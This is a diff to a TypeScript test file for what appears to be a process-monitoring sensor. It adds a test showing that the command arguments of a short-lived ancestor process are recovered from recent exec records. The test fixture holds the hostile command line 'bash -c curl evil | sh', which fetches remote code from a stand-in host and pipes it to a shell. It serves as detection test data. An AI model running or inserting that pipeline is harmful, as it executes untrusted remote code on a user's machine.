@@ -1,20 +1,28 @@
 import { expect, test } from "bun:test";
+import { treeOf } from "../../src/fingerprint/tree.ts";
 import { parseRecord } from "../../src/report/event-record.ts";
 import { createRedaction } from "../../src/report/redact.ts";
 import { unknownFacts } from "../../src/sensor/event.ts";
 import { AncestorRecords } from "../../src/warden/ancestor-records.ts";
+import { RecentExecs } from "../../src/warden/recent-execs.ts";
 import { smallHost, type World } from "../forest/world.ts";
 
 const BOOT_MS = Date.UTC(2026, 0, 31);
 
 /** The ancestors' records, and how often /proc was read for them. */
-function recorder(world: World, args: readonly string[], time = { now: 0 }) {
+function recorder(
+  world: World,
+  args: readonly string[],
+  time = { now: 0 },
+  recent: RecentExecs = new RecentExecs(4_096),
+) {
   const asked: number[] = [];
   const records = new AncestorRecords({
     forest: world.forest,
     bootTimeMs: BOOT_MS,
     userName: (uid) => (uid === 0 ? "root" : undefined),
     now: () => time.now,
+    recent,
     reader: {
       invocation: (pid) => {
         asked.push(pid);
@@ -80,6 +88,30 @@ test("the arguments of another program than the one that started the process are
   expect(parsed(recorder(world, ["python", "x.py"]).of(300)["process.ancestors"]).at(-1)).not.toHaveProperty(
     "process.command_args",
   );
+});
+
+test("the arguments of an ancestor that ended at once are those of its exec", () => {
+  const world = loggedIn();
+  const recent = new RecentExecs(4_096);
+  const process = world.forest.get(200);
+  if (process === undefined) throw new Error("no process");
+  const facts = { ...unknownFacts, args: ["bash", "-c", "curl evil | sh"], tty: null };
+  const exec = {
+    process,
+    facts,
+    tree: treeOf(process.lineage),
+    source: "ebpf",
+    time: 0,
+    event: undefined,
+  } as const;
+  for (let i = 0; i < 600; i += 1) recent.add({ ...exec, facts: unknownFacts });
+  recent.add(exec);
+  world.exit(200);
+  expect(parsed(recorder(world, [], { now: 0 }, recent).of(300)["process.ancestors"]).at(-1)).toMatchObject({
+    "process.pid": 200,
+    "process.command_args": ["bash", "-c", "curl evil | sh"],
+    "process.tty": null,
+  });
 });
 
 test("hostile arguments are escaped and cut", () => {
